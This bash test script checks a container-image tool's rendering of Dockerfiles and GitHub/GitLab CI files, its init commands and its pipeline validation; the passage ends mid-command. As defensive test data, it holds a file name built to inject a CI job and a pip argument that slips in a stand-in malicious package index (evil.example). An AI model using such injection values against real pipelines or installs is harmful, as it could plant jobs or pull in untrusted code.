#!/usr/bin/env bash
# Templates (docs/templates.md): render dockerfile / github-actions / gitlab-ci against
# golden files, the Dockerfile read back in order, the CI YAML parsed; init and
# init --from-dockerfile; unknown names, overwrites and unknown template variables.
source "$(dirname "$0")/../support/common.sh"
GOLDEN=$ROOT/tests/golden/templates
EX=$ROOT/examples/ocr-train

# --- render dockerfile ---------------------------------------------------------------
(cd "$EX" && "$PI" render dockerfile spec.yaml) >"$WORK/Dockerfile" 2>"$WORK/err.txt"
check "render dockerfile of the bundled example matches the golden file" \
  diff -u "$GOLDEN/ocr-train.Dockerfile" "$WORK/Dockerfile"
# The instructions, read back, follow the spec's layer order: deps, models, app, config.
python3 - "$WORK/Dockerfile" >"$WORK/instr.txt" <<'PY'
import sys
lines, cur = [], ""
for raw in open(sys.argv[1]):
    line = raw.rstrip("\n")
    if not cur and (not line.strip() or line.lstrip().startswith("#")):
        continue
    if line.endswith("\\"):
        cur += line[:-1] + " "; continue
    cur += line
    lines.append(cur); cur = ""
for l in lines:
    word = l.split()[0]
    print(word, l.split()[-1] if word == "COPY" else "")
PY
check "Dockerfile instructions in the spec's order" diff -u - "$WORK/instr.txt" <<'EOF2'
FROM 
COPY "/tmp/paddle-image/deps.lock"]
COPY "/tmp/paddle-image/deps/"]
RUN 
COPY "/opt/models/"]
COPY "/app/"]
ENV 
ENV 
LABEL 
WORKDIR 
ENTRYPOINT 
EOF2
expect_fail "render: an unknown kind gets 'did you mean'" 2 "did you mean 'dockerfile'" \
  "$PI" render dockerfle "$EX/spec.yaml"
mkdir -p "$WORK/oci-base/src"
echo x >"$WORK/oci-base/src/a"
printf 'base: oci:base:v1\nplatform: linux/amd64\nlayers:\n  - name: app\n    files:\n      - {from: src/, to: /app/}\n' \
  >"$WORK/oci-base/spec.yaml"
expect_fail "render dockerfile: an oci: base cannot be a FROM, with the fix" 3 "paddle-image push oci:base:v1" \
  "$PI" render dockerfile "$WORK/oci-base/spec.yaml"
# --template-dir: a user's template replaces the built-in one; an unknown variable names file:line.
mkdir -p "$WORK/tpl"
printf 'FROM {{{from}}}\n# by {{{spec_file}}}\n' >"$WORK/tpl/Dockerfile.mustache"
check "render --template-dir uses the user's Dockerfile template" bash -c \
  "cd '$EX' && '$PI' render dockerfile spec.yaml --template-dir '$WORK/tpl' | diff -u <(printf 'FROM scratch\n# by spec.yaml\n') -"
printf 'FROM {{{from}}}\n\nRUN echo {{imagename}}\n' >"$WORK/tpl/Dockerfile.mustache"
expect_fail "a template with an unknown variable fails naming file:line" 3 \
  "$WORK/tpl/Dockerfile.mustache:3: unknown variable 'imagename'" \
  "$PI" render dockerfile "$EX/spec.yaml" --template-dir "$WORK/tpl"

# --- the rendered Dockerfile built with buildah: the same files per layer ---------------
# buildah (vfs, its own root, /var/lib/containers private as in bench/workflow.sh),
# one layer per instruction (--layers); a spec with files/data layers only, since
# wheels layers cannot match byte for byte (pip writes .pyc and INSTALLER).
if command -v buildah >/dev/null && [[ $(id -u) -eq 0 ]]; then
  B=$WORK/bah
  mkdir -p "$B/proj/src/pkg" "$B/proj/models" "$B/root" "$B/runroot" "$B/up" "$B/wk" "$B/containers" "$B/tmp"
  echo 'print(1)' >"$B/proj/src/train.py"
  echo 'X = 1' >"$B/proj/src/pkg/__init__.py"
  ln -s train.py "$B/proj/src/main.py"
  head -c 100000 /dev/zero >"$B/proj/models/w.bin"
  cat >"$B/proj/spec.yaml" <<'YAML'
image:
  name: example.com/team/app
base: scratch
layers:
  - name: models
    data:
      - from: models/
        to: /opt/models/
  - name: app
    owner: "1000:1000"
    files:
      - from: src/
        to: /app/
config:
  entrypoint: [python3, /app/train.py]
  env: {A: "x: \"y\" $$z", P: "/opt/x/bin:${PATH}"}
  workdir: /app
YAML
  printf '[storage]\ndriver = "vfs"\ngraphroot = "%s/root"\nrunroot = "%s/runroot"\n' "$B" "$B" >"$B/storage.conf"
  printf 'unqualified-search-registries = []\n' >"$B/registries.conf"
  (cd "$B/proj" && "$PI" render dockerfile spec.yaml -o Dockerfile && "$PI" build spec.yaml -o "oci:$B/pi:v1" -q) >/dev/null 2>&1
  # shellcheck disable=SC2016  # expanded by the inner bash
  CONTAINERS_STORAGE_CONF=$B/storage.conf CONTAINERS_REGISTRIES_CONF=$B/registries.conf TMPDIR=$B/tmp BUILDAH_FORMAT=oci \
    unshare --mount --propagation private bash -c 'mount -t overlay overlay \
      -o "lowerdir=/var/lib,upperdir=$1/up,workdir=$1/wk" /var/lib && mkdir -p /var/lib/containers &&
      mount --bind "$1/containers" /var/lib/containers &&
      buildah --root "$1/root" --runroot "$1/runroot" --storage-driver vfs bud --layers -q -f "$1/proj/Dockerfile" -t localhost/t:1 "$1/proj" &&
      buildah --root "$1/root" --runroot "$1/runroot" --storage-driver vfs push -q localhost/t:1 "oci:$1/bah:v1"' _ "$B" \
    >"$B/buildah.log" 2>&1 || true
  layer_files() { # LAYOUT: per layer with files, its files and symlinks with owner and mode; then the config
    python3 - "$1" <<'PY'
import json, sys, tarfile
d = sys.argv[1]
blob = lambda dg: d + "/blobs/sha256/" + dg[7:]
idx = json.load(open(d + "/index.json"))
m = json.load(open(blob(idx["manifests"][0]["digest"])))
n = 0
for l in m["layers"]:
    with tarfile.open(blob(l["digest"])) as t:
        es = [e for e in t.getmembers() if e.isfile() or e.issym()]
    if not es:
        continue
    for e in sorted(es, key=lambda e: e.name.lstrip("./")):
        print(n, e.name.lstrip("./"), e.linkname if e.issym() else e.size, e.uid, e.gid, oct(e.mode & 0o7777) if e.isfile() else "")
    n += 1
c = json.load(open(blob(m["config"]["digest"])))["config"]
print(c.get("Entrypoint"), c.get("WorkingDir"), [e for e in c.get("Env", []) if e.startswith(("A=", "P="))])
PY
  }
  if [[ -f "$B/bah/index.json" ]]; then
    check "buildah builds the rendered Dockerfile into the same files per layer, owners, modes and config" \
      diff -u <(layer_files "$B/pi") <(layer_files "$B/bah")
    # And back: init reads that Dockerfile's ENV as Docker lexes it (quotes, escapes, a
    # literal '$', the base's ${PATH} kept as a reference), and the spec it writes builds
    # to the config buildah gave.
    mkdir -p "$B/back"
    if (cd "$B/proj" && "$PI" init --from-dockerfile Dockerfile "$B/back" && cd "$B/back" &&
      "$PI" build spec.yaml -o "oci:$B/back-img:v1" -q) >"$B/back.log" 2>&1; then
      check "init --from-dockerfile of it, built again: the entrypoint, workdir and env buildah gave (\$\$z, \${PATH})" \
        diff -u <(layer_files "$B/back-img" | tail -1) <(layer_files "$B/bah" | tail -1)
    else
      fail "init --from-dockerfile of the rendered Dockerfile, built: $(tail -3 "$B/back.log")"
    fi
  else
    fail "buildah could not build the rendered Dockerfile: $(tail -3 "$B/buildah.log")"
  fi
else
  echo "skip - buildah check of the rendered Dockerfile (needs buildah and root)"
fi

mkdir -p "$WORK/tpl2"
printf 'x\n' >"$WORK/tpl2/Dockerfle.mustache"
expect_fail "--template-dir: a misspelt template file name gets 'did you mean'" 2 "did you mean 'Dockerfile.mustache'" \
  "$PI" render dockerfile "$EX/spec.yaml" --template-dir "$WORK/tpl2"
expect_fail "--template-dir that is not a directory" 2 "not a directory" \
  "$PI" render dockerfile "$EX/spec.yaml" --template-dir "$WORK/nonexistent"

# --- render github-actions / gitlab-ci --------------------------------------------
mkdir -p "$WORK/ci/src"
echo 'print(1)' >"$WORK/ci/src/train.py"
printf '# pip hash-checking format\n' >"$WORK/ci/requirements.lock"
printf 'numpy==1.26.4\n' >"$WORK/ci/requirements.txt"
cat >"$WORK/ci/spec.yaml" <<'YAML'
image:
  name: registry.example.com/ocr/train
base: scratch
python:
  version: "3.11"
  glibc: "2.36"
layers:
  - name: deps
    wheels:
      lock: requirements.lock
      index: https://mirror.example/simple
  - name: app
    files:
      - from: src/
        to: /app/
YAML
for kind in github-actions gitlab-ci; do
  (cd "$WORK/ci" && "$PI" render $kind spec.yaml --requirements requirements.txt) >"$WORK/$kind.yml" 2>"$WORK/err.txt"
  check "render $kind matches the golden file" diff -u "$GOLDEN/$kind.yml" "$WORK/$kind.yml"
done
# A spec path with a line break (or U+2028, NEL) stays inside the header comment: the
# file has the same top-level keys as without it, and nothing planted in it is a key.
evil=$'evil\ninjected_job:\n  script: [touch planted]\n#'
cp "$WORK/ci/spec.yaml" "$WORK/ci/$evil.yaml"
cp "$WORK/ci/spec.yaml" "$WORK/ci/"$'nel\xc2\x85ls\xe2\x80\xa8x:\xe2\x80\xa9.yaml'
for kind in github-actions gitlab-ci; do
  for f in "$evil.yaml" $'nel\xc2\x85ls\xe2\x80\xa8x:\xe2\x80\xa9.yaml'; do
    (cd "$WORK/ci" && "$PI" render $kind "$f") >"$WORK/evil-$kind.yml" 2>"$WORK/err.txt"
    (cd "$WORK/ci" && "$PI" render $kind spec.yaml) >"$WORK/plain-$kind.yml" 2>"$WORK/err.txt"
    check "render $kind: a hostile spec path adds no YAML key ($(printf %q "$f" | head -c 30))" python3 - \
      "$WORK/evil-$kind.yml" "$WORK/plain-$kind.yml" <<'PY'
import sys, yaml
a = yaml.safe_load(open(sys.argv[1], encoding="utf-8"))
b = yaml.safe_load(open(sys.argv[2], encoding="utf-8"))
assert sorted(map(str, a)) == sorted(map(str, b)), (sorted(map(str, a)), sorted(map(str, b)))
assert "injected_job" not in a
text = open(sys.argv[1], encoding="utf-8").read()
assert not any(l.startswith("injected_job") for l in text.splitlines()), text[:400]
PY
  done
done
for bad in $'registry.example.com/team/app\nx: 1' registry.example.com/team/app:v1 registry.example.com/team/app@sha256:$(printf '%064d' 0) 'two words'; do
  expect_fail "render github-actions --image $(printf %q "$bad") is refused (exit 2)" 2 "--image .*(tag or digest|white space|control)" \
    bash -c "cd '$WORK/ci' && '$PI' render github-actions spec.yaml --image \"\$0\"" "$bad"
done
check "render --no-sign: the header does not say it signs" bash -c \
  "cd '$WORK/ci' && '$PI' render github-actions spec.yaml --no-sign | grep -q '^# Builds the image with paddle-image and pushes it'"
expect_fail "render: a --requirements file that does not exist is refused (exit 2)" 2 "--requirements missing.txt: no such file" \
  bash -c "cd '$WORK/ci' && '$PI' render github-actions spec.yaml --requirements missing.txt"
# Parsed: the jobs, their steps in order, the commands and how the digest goes on.
check "the GitHub workflow parses: steps in order, signed push with --digest-file, digest as a job output" \
  python3 - "$WORK/github-actions.yml" <<'PY'
import sys, yaml
w = yaml.safe_load(open(sys.argv[1]))
b = w["jobs"]["build"]
names = [s.get("name", s.get("uses")) for s in b["steps"]]
assert names == ["actions/checkout@v4", "Get paddle-image", "Check that the lock is current",
                 "Log in to the registry", "Build, sign and push"], names
build = b["steps"][-1]
assert build["id"] == "build"
assert 'paddle-image build "$SPEC" --push "$IMAGE:$GITHUB_SHA" --digest-file digest.txt --sign --key cosign.key' in build["run"]
assert build["env"]["COSIGN_PASSWORD"] == "${{ secrets.COSIGN_PASSWORD }}"
assert "digest=$(cat digest.txt)" in build["run"] and "GITHUB_OUTPUT" in build["run"]
assert b["outputs"]["digest"] == "${{ steps.build.outputs.digest }}"
assert w["jobs"]["digest"]["needs"] == "build"
assert b["env"] == {"SPEC": "spec.yaml", "IMAGE": "registry.example.com/ocr/train", "REGISTRY": "registry.example.com"}
lock = b["steps"][2]
assert lock["env"] == {"REQUIREMENTS": "requirements.txt", "LOCK": "requirements.lock", "LAYER": "deps"}
assert "scripts/setup.sh" in b["steps"][1]["run"] and "PADDLE_IMAGE_BIN" in b["steps"][1]["run"]
PY
check "the GitLab file parses: build job with --digest-file and a dotenv artifact, a job that needs it" \
  python3 - "$WORK/gitlab-ci.yml" <<'PY'
import sys, yaml
g = yaml.safe_load(open(sys.argv[1]))
assert g["stages"] == ["build", "deploy"]
job = g["build-image"]
script = "\n".join(job["script"])
assert '--digest-file digest.txt --sign --key "$COSIGN_KEY"' in script, script
assert 'paddle-image lock "$REQUIREMENTS" -o /tmp/check.lock --spec "$SPEC" --layer "$LAYER"' in script
assert script.index("paddle-image lock") < script.index("paddle-image build")
assert "IMAGE_DIGEST=$(cat digest.txt)" in script
assert job["artifacts"]["reports"]["dotenv"] == "build.env"
assert g["digest"]["needs"] == ["build-image"]
assert g["variables"]["IMAGE"] == "registry.example.com/ocr/train"
PY
# An image value with ':', '"', '#' or white space is no repository: refused, not escaped.
expect_fail "an image value with : \" # is refused (exit 2)" 2 "white space or a control character" \
  bash -c "cd '$WORK/ci' && '$PI' render gitlab-ci spec.yaml --no-sign --image 'reg.example.com/a: \"b\" #c'"
expect_fail "render github-actions --requirements without a wheels layer from an index" 2 "no wheels layer" \
  "$PI" render github-actions "$EX/spec.yaml" --requirements requirements.txt
expect_fail "render: a misspelt CI kind gets 'did you mean'" 2 "did you mean 'gitlab-ci'" \
  "$PI" render gitlabci "$WORK/ci/spec.yaml"

# --- init ----------------------------------------------------------------------------
check "init ocr-train writes the project" "$PI" init ocr-train "$WORK/proj"
check "init: spec, ignore file, requirements, lock stub, code, CI file" bash -c "cd '$WORK/proj' &&
  test -f spec.yaml && test -f .paddleimageignore && test -f requirements.txt && test -f requirements.lock &&
  test -f src/train.py && test -f .github/workflows/build.yml"
check "init: the workflow pushes the spec's image, signed, and checks the lock" python3 - "$WORK/proj/.github/workflows/build.yml" <<'PY'
import sys, yaml
b = yaml.safe_load(open(sys.argv[1]))["jobs"]["build"]
assert b["env"]["IMAGE"] == "registry.example.com/team/proj", b["env"]
run = b["steps"][-1]["run"]
assert "--push" in run and "--digest-file digest.txt" in run and "--sign --key cosign.key" in run
assert b["steps"][2]["env"]["LOCK"] == "requirements.lock"
PY
# The workflow's lock check, as the runner would run it: the step's run: with the job's
# and the step's env, in the project, paddle-image on PATH. requirements.txt lists
# nothing yet, so lock fetches nothing.
cat >"$WORK/lock_step.py" <<'PY'
import os, subprocess, sys, yaml
wf, proj, bindir = sys.argv[1:4]
job = yaml.safe_load(open(wf))["jobs"]["build"]
step = next(s for s in job["steps"] if s.get("name") == "Check that the lock is current")
env = dict(os.environ, **{k: str(v) for k, v in job.get("env", {}).items()}, **{k: str(v) for k, v in step["env"].items()})
env["PATH"] = bindir + ":" + env["PATH"]
sys.exit(subprocess.run(["bash", "-e", "-c", step["run"]], cwd=proj, env=env).returncode)
PY
check "init: the workflow's lock-check step, run with bash, passes on the new project" \
  env PADDLE_IMAGE_CACHE="$WORK/lockstep-cache" python3 "$WORK/lock_step.py" "$WORK/proj/.github/workflows/build.yml" "$WORK/proj" "$(dirname "$PI")"
cp "$WORK/proj/requirements.lock" "$WORK/lock.keep"
echo "# edited by hand" >>"$WORK/proj/requirements.lock"
check "... and fails once the lock differs from what lock writes" bash -c \
  "! env PADDLE_IMAGE_CACHE='$WORK/lockstep-cache' python3 '$WORK/lock_step.py' '$WORK/proj/.github/workflows/build.yml' '$WORK/proj' '$(dirname "$PI")' >/dev/null 2>&1"
cp "$WORK/lock.keep" "$WORK/proj/requirements.lock"
check "init ocr-train then build: the spec builds as it is" bash -c \
  "cd '$WORK/proj' && '$PI' build spec.yaml -o 'oci:$WORK/proj-out' -q"
check "the built image has the three layers and the entrypoint" python3 - "$WORK/proj-out" <<'PY'
import json, sys
d = sys.argv[1]
idx = json.load(open(d + "/index.json"))
m = json.load(open(d + "/blobs/sha256/" + idx["manifests"][0]["digest"][7:]))
c = json.load(open(d + "/blobs/sha256/" + m["config"]["digest"][7:]))
assert len(m["layers"]) == 3, m["layers"]
assert c["config"]["Entrypoint"] == ["python3", "/app/train.py"], c["config"]
PY
sum_before=$(cd "$WORK/proj" && find . -type f -exec sha256sum {} + | sort)
expect_fail "init refuses to overwrite, naming the file" 3 "init writes no file over an existing one: .*spec.yaml" \
  "$PI" init ocr-train "$WORK/proj"
check "a refused init changed nothing" bash -c \
  "diff <(echo '$sum_before') <(cd '$WORK/proj' && find . -type f -exec sha256sum {} + | sort)"
mkdir -p "$WORK/half"
echo keep >"$WORK/half/requirements.txt"
expect_fail "init refuses when any one file exists, and writes nothing" 3 "requirements.txt" \
  "$PI" init ocr-train "$WORK/half"
check "nothing but the existing file is there" bash -c "[[ \$(find '$WORK/half' -type f | wc -l) == 1 && \$(cat '$WORK/half/requirements.txt') == keep ]]"
expect_fail "init: an unknown template gets 'did you mean'" 2 "did you mean 'ocr-train'" \
  "$PI" init ocr-trian "$WORK/x"
check "init --json reports the files" bash -c \
  "'$PI' init ocr-train '$WORK/proj2' --json | python3 -c 'import json,sys; j=json.load(sys.stdin); assert len(j[\"files\"]) == 7 and j[\"template\"] == \"ocr-train\"'"

# --- init --from-dockerfile ------------------------------------------------------------
S=$WORK/seed
mkdir -p "$S/src" "$S/configs"
echo 'numpy==1.26.4' >"$S/requirements.txt"
echo 'print(1)' >"$S/src/train.py"
echo 'x: 1' >"$S/configs/det.yml"
cat >"$S/Dockerfile" <<'DF'
# The seeds' Dockerfile shape
FROM paddlepaddle/paddle:2.6.1-gpu-cuda11.7-cudnn8.4-trt8.4
WORKDIR /workspace
COPY requirements.txt .
RUN pip install -r requirements.txt -i https://mirror.example/simple
RUN apt-get update && \
    apt-get install -y libgl1
COPY src/ /workspace/src/
COPY --chown=1000:1000 configs ./configs
ENV PYTHONUNBUFFERED=1
EXPOSE 8080
CMD ["python3", "src/train.py", "--config", "configs/det.yml"]
DF
(cd "$S" && "$PI" init --from-dockerfile Dockerfile --json) >"$WORK/fd.json" 2>"$WORK/fd.err"
check "init --from-dockerfile maps the RUN apt-get to a debs layer (nothing left unmapped)" \
  bash -c "! grep -q 'not mapped' '$WORK/fd.err'"
check "init --from-dockerfile --json: the unmapped list and the lock command" python3 - "$WORK/fd.json" <<'PY'
import json, sys
j = json.load(open(sys.argv[1]))
assert j["unmapped"] == [], j["unmapped"]
assert j["commands"] == ["paddle-image lock requirements.txt -o requirements.txt.lock --spec spec.yaml --layer deps",
                         "paddle-image lock --spec spec.yaml --layer system"], j
PY
check "the spec from the Dockerfile: base, layers in order, wheels from the mirror, config" python3 - "$S/spec.yaml" <<'PY'
import sys, yaml
s = yaml.safe_load(open(sys.argv[1]))
assert s["base"] == "paddlepaddle/paddle:2.6.1-gpu-cuda11.7-cudnn8.4-trt8.4"
assert [l["name"] for l in s["layers"]] == ["system", "workspace", "deps", "src", "configs"], s["layers"]
assert s["layers"][0]["debs"]["packages"] == ["libgl1"], s["layers"][0]
assert s["layers"][1]["files"] == [{"from": "requirements.txt", "to": "/workspace/"}]
assert s["layers"][2]["wheels"] == {"lock": "requirements.txt.lock", "index": "https://mirror.example/simple"}
assert s["layers"][4]["files"] == [{"from": "configs", "to": "/workspace/configs", "owner": "1000:1000"}]
c = s["config"]
assert c["cmd"] == ["python3", "src/train.py", "--config", "configs/det.yml"]
assert c["env"] == {"PYTHONUNBUFFERED": "1"} and c["workdir"] == "/workspace" and c["ports"] == ["8080"]
PY
check "the spec written from the Dockerfile loads (render dockerfile of it)" bash -c \
  "cd '$S' && '$PI' render dockerfile spec.yaml >/dev/null"
check "and renders back to the Dockerfile's instruction order" bash -c \
  "cd '$S' && '$PI' render dockerfile spec.yaml | grep -E '^(FROM|COPY|RUN|ENV|EXPOSE|WORKDIR|CMD)' | cut -d' ' -f1 | tr '\n' ' ' |
   grep -qx 'FROM RUN COPY COPY RUN COPY COPY ENV EXPOSE WORKDIR CMD '"
expect_fail "init --from-dockerfile refuses to overwrite spec.yaml" 3 "spec.yaml" \
  "$PI" init --from-dockerfile "$S/Dockerfile"
mkdir -p "$WORK/elsewhere"
check "init --from-dockerfile DIR: paths point back at the build context" bash -c \
  "'$PI' init --from-dockerfile '$S/Dockerfile' '$WORK/elsewhere' 2>/dev/null && grep -q 'from: \"../seed/src/\"' '$WORK/elsewhere/spec.yaml' &&
   cd '$WORK/elsewhere' && '$PI' render dockerfile spec.yaml >/dev/null"

# Each pip install argument is one requirement (PEP 508, the parser lock reads it with):
# an option smuggled inside a quoted argument, or a malformed one, is not mapped.
P=$WORK/pipargs
mkdir -p "$P"
printf '%s\n' 'FROM python:3.11' 'RUN pip install "numpy --index-url http://evil.example/simple"' \
  'RUN pip install "opencv>=>4"' 'RUN pip install "shapely>=2"' >"$P/Dockerfile"
(cd "$P" && "$PI" init --from-dockerfile Dockerfile --json) >"$WORK/pa.json" 2>"$WORK/pa.err"
check "init --from-dockerfile: a pip argument with options inside, and one that is no PEP 508 requirement, are not mapped" \
  python3 - "$WORK/pa.json" "$P/requirements-deps.txt" <<'PY'
import json, sys
j = json.load(open(sys.argv[1]))
u = {e["line"]: e["reason"] for e in j["unmapped"]}
assert set(u) == {2, 3}, u
assert "pip reads the part from `-` on as options" in u[2], u[2]
assert "is not a requirement (PEP 508)" in u[3] and ">4" in u[3], u[3]
text = open(sys.argv[2]).read()
assert "evil" not in text and "opencv" not in text and text.endswith("\nshapely>=2\n"), text
PY

# --build-arg, as docker build takes it: NAME=VALUE, NAME from the environment.
G=$WORK/buildargs
mkdir -p "$G"
printf '%s\n' 'ARG TAG=2.5.2-gpu-cuda11.7-cudnn8.4-trt8.4' 'FROM paddlepaddle/paddle:${TAG}' 'ARG MODE' \
  'ENV MODE=$MODE PATH=/opt/app/bin:$PATH' >"$G/Dockerfile"
check "init --from-dockerfile --build-arg: the ARGs take the values given, an undeclared one is warned of" bash -c \
  "cd '$G' && MODE=eval '$PI' init --from-dockerfile Dockerfile --build-arg TAG=2.6.1-gpu-cuda12.0-cudnn8.9-trt8.6 \
     --build-arg MODE --build-arg NOPE=1 --json >ba.json 2>ba.err &&
   grep -qx 'base: \"paddlepaddle/paddle:2.6.1-gpu-cuda12.0-cudnn8.9-trt8.6\"' spec.yaml &&
   grep -qF '\"MODE\": \"eval\"' spec.yaml && grep -qF '\"PATH\": \"/opt/app/bin:\${PATH}\"' spec.yaml &&
   grep -q 'warning: --build-arg NOPE: no ARG in Dockerfile declares it' ba.err &&
   python3 -c 'import json,sys; j=json.load(open(\"ba.json\")); assert j[\"unused_build_args\"] == [\"NOPE\"] and j[\"unmapped\"] == [], j'"
expect_fail "--build-arg without --from-dockerfile is a usage error" 2 "--build-arg is for init --from-dockerfile" \
  "$PI" init ocr-train "$WORK/ba-template" --build-arg A=1

# --- every rendered pipeline validated (tests/support/ci_validate.py) -----------------
# GitHub workflows against the schema @action-validator/cli checks them with (pinned in
# tests/support/ci-schemas, so this runs offline), plus expressions, needs and uses;
# GitLab files for their structure. The renders above, their variants, and what init wrote.
CI_VALIDATE=(/usr/bin/python3 "$SUPPORT/ci_validate.py")
mkdir -p "$WORK/ci-out"
for kind in github-actions gitlab-ci; do
  (cd "$WORK/ci" && "$PI" render $kind spec.yaml --no-sign --requirements requirements.txt) >"$WORK/ci-out/$kind-nosign.yml"
  (cd "$WORK/ci" && "$PI" render $kind spec.yaml --image 'reg.example.com:5000/team/a') >"$WORK/ci-out/$kind-image.yml"
  (cd "$EX" && "$PI" render $kind spec.yaml) >"$WORK/ci-out/$kind-example.yml"
done
gh_files=("$WORK/github-actions.yml" "$WORK/ci-out/github-actions-"*.yml)
gl_files=("$WORK/gitlab-ci.yml" "$WORK/ci-out/gitlab-ci-"*.yml)
while IFS= read -r f; do gh_files+=("$f"); done < <(find "$WORK/proj" "$WORK/proj2" "$S" "$WORK/elsewhere" \
  -path '*/.github/workflows/*' \( -name '*.yml' -o -name '*.yaml' \) | sort)
while IFS= read -r f; do gl_files+=("$f"); done < <(find "$WORK/proj" "$WORK/proj2" "$S" "$WORK/elsewhere" \
  -name '.gitlab-ci.yml' | sort)
check "init wrote a workflow that gets validated" test -f "$WORK/proj/.github/workflows/build.yml"
for f in "${gh_files[@]}"; do
  check "GitHub workflow valid (pinned action-validator schema, expressions, needs, uses): ${f#"$WORK"/}" \
    "${CI_VALIDATE[@]}" github "$f"
done
for f in "${gl_files[@]}"; do
  check "GitLab CI file valid (stages, needs, keywords, artifacts): ${f#"$WORK"/}" "${CI_VALIDATE[@]}" gitlab "$f"
done
check "ci_validate.py self-test: the golden files pass, each kind of mistake is caught" \
  env TEST_WORK="$WORK/ci-selftest" bash "$SUPPORT/ci-validate-selftest.sh"

# --- the registry build cache in every rendered pipeline (tests/support/ci_cache_step.py) ---
# The build step, run under CI contexts with a stub paddle-image: the cache IMAGE/cache is
# read in every pipeline and written only on a protected branch (GitHub: a push; GitLab:
# no merge request pipeline), even when the runner's environment already names one.
CACHE_STEP=(/usr/bin/python3 "$SUPPORT/ci_cache_step.py")
for f in "${gh_files[@]}"; do
  check "GitHub build step: cache read always, written only by a push to a protected branch: ${f#"$WORK"/}" \
    "${CACHE_STEP[@]}" github "$f"
done
for f in "${gl_files[@]}"; do
  check "GitLab build step: cache read always, written only on a protected branch, no MR: ${f#"$WORK"/}" \
    "${CACHE_STEP[@]}" gitlab "$f"
done
# ... and the check fails when a pipeline writes the cache unconditionally or reads none.
mkdir -p "$WORK/cache-mut"
sed 's/(github.event_name == .push. \&\& github.ref_protected) \&\& //' "$WORK/github-actions.yml" >"$WORK/cache-mut/gh-to.yml"
sed '/PADDLE_IMAGE_CACHE_FROM:/d' "$WORK/github-actions.yml" >"$WORK/cache-mut/gh-from.yml"
sed 's/if \[ "\$CI_COMMIT_REF_PROTECTED" = "true" \] \&\& \[ -z "\$CI_MERGE_REQUEST_IID" \]/if true/' \
  "$WORK/gitlab-ci.yml" >"$WORK/cache-mut/gl-to.yml"
sed 's/ \&\& \[ -z "\$CI_MERGE_REQUEST_IID" \]//' "$WORK/gitlab-ci.yml" >"$WORK/cache-mut/gl-mr.yml"
sed '/export PADDLE_IMAGE_CACHE_FROM=/d' "$WORK/gitlab-ci.yml" >"$WORK/cache-mut/gl-from.yml"
for m in gh-to:github:"must not write" gh-from:github:"CACHE_FROM is" gl-to:gitlab:"must not write" \
  gl-mr:gitlab:"merge request.*must not write" gl-from:gitlab:"CACHE_FROM is"; do
  IFS=: read -r name mode pat <<<"$m"
  if cmp -s "$WORK/cache-mut/$name.yml" "$WORK/$([[ $mode == github ]] && echo github-actions || echo gitlab-ci).yml"; then
    fail "cache mutation $name changed nothing"
  else
    check "ci_cache_step.py catches the mutation $name" \
      bash -c "! '${CACHE_STEP[0]}' '${CACHE_STEP[1]}' $mode '$WORK/cache-mut/$name.yml' >'$WORK/cache-mut/$name.out' 2>&1 &&
        grep -qE '$pat' '$WORK/cache-mut/$name.out'"
  fi
done

# npm's @action-validator/cli validates against exactly this schema (tests/support/ci-schemas
# is cut from the @action-validator/core release it runs). It is not called here: npm is
# not a Debian package scripts/setup.sh installs, and CI machines cannot reach its registry.

# --- docs/templates.md: every flag its tables list is accepted -------------------------
while read -r cmd flag; do
  # the help captured first: `--help | grep -q` fails under pipefail when grep exits at the
  # first match and paddle-image then gets SIGPIPE
  help_text=$("$PI" "$cmd" --help 2>/dev/null || true)
  if grep -q -- "$flag\b" <<<"$help_text"; then
    pass "docs/templates.md: $cmd takes $flag"
  else
    fail "docs/templates.md lists $flag for '$cmd', which does not take it"
  fi
done < <(awk '/^## render/{c="render"} /^## init/{c="init"} /^## Template files/{c=""}
              c != "" && /^\| `-/ {split($0, cell, "|"); s = cell[2]
                while (match(s, /--[a-z][a-z0-9-]*/)) {print c, substr(s, RSTART, RLENGTH); s = substr(s, RSTART + RLENGTH)}}' \
          "$ROOT/docs/templates.md" | sort -u)


# --- How the pipeline gets paddle-image: --tool-archive. The rendered "Get paddle-image"
# step is taken out of each CI file and run with bash against a loopback HTTP server,
# in a private mount namespace (/opt and /usr/local/bin are a tmpfs there).
T=$WORK/toolsrv
rm -rf "$T" && mkdir -p "$T/paddle-image-9.9.9-linux-amd64/bin"
printf '#!/bin/sh\necho "paddle-image 9.9.9 (from the release archive)"\n' >"$T/paddle-image-9.9.9-linux-amd64/bin/paddle-image"
chmod +x "$T/paddle-image-9.9.9-linux-amd64/bin/paddle-image"
tar czf "$T/pi.tar.gz" -C "$T" paddle-image-9.9.9-linux-amd64
SUM=$(sha256sum "$T/pi.tar.gz" | cut -d' ' -f1)
# On a port the kernel picks (port 0), read back from the server's own first line, so a
# test running beside this one can neither take the port first nor answer instead.
python3 -u -m http.server --bind 127.0.0.1 0 --directory "$T" >"$WORK/toolsrv.log" 2>&1 &
SRV=$!
PORT=
for _ in $(seq 100); do
  PORT=$(sed -n 's/^Serving HTTP on .* port \([0-9]*\) .*/\1/p' "$WORK/toolsrv.log")
  [[ -n $PORT ]] && break
  sleep 0.1
done
[[ -n $PORT ]] || { echo "templates.sh: the tool server did not start: $(cat "$WORK/toolsrv.log")"; exit 1; }
step_of() { # KIND FILE OUT: the step's env as exports, then its script
  python3 - "$1" "$2" >"$3" <<'PY'
import shlex, sys, yaml
kind, path = sys.argv[1], sys.argv[2]
doc = yaml.safe_load(open(path))
if kind == "github-actions":
    step = next(s for s in doc["jobs"]["build"]["steps"] if s.get("name") == "Get paddle-image")
    env, script = step.get("env", {}), step["run"]
else:
    env = {k: v for k, v in doc["variables"].items() if k.startswith("PADDLE_IMAGE_")}
    script = doc["build-image"]["script"][0]
for k, v in env.items():
    print("export %s=%s" % (k, shlex.quote(str(v))))
print(script)
PY
}
run_step() { # STEP_FILE
  unshare -m bash -c "mount -t tmpfs tmpfs /opt && mount -t tmpfs tmpfs /usr/local/bin && bash '$1' &&
    /usr/local/bin/paddle-image --version"
}
for kind in github-actions gitlab-ci; do
  (cd "$WORK/ci" && "$PI" render $kind spec.yaml --tool-archive "http://127.0.0.1:$PORT/pi.tar.gz" --tool-sha256 "$SUM") \
    >"$WORK/tool-$kind.yml" 2>"$WORK/err.txt"
  step_of $kind "$WORK/tool-$kind.yml" "$WORK/step-$kind.sh"
  check "$kind --tool-archive: the step downloads the archive, checks its SHA-256 and installs it" \
    bash -c "run_step() { $(declare -f run_step | tail -n +2); }; run_step '$WORK/step-$kind.sh' | grep -q 'paddle-image 9.9.9 (from the release archive)'"
  check "$kind --tool-archive: the file parses with the archive's URL and sum in it" python3 -c \
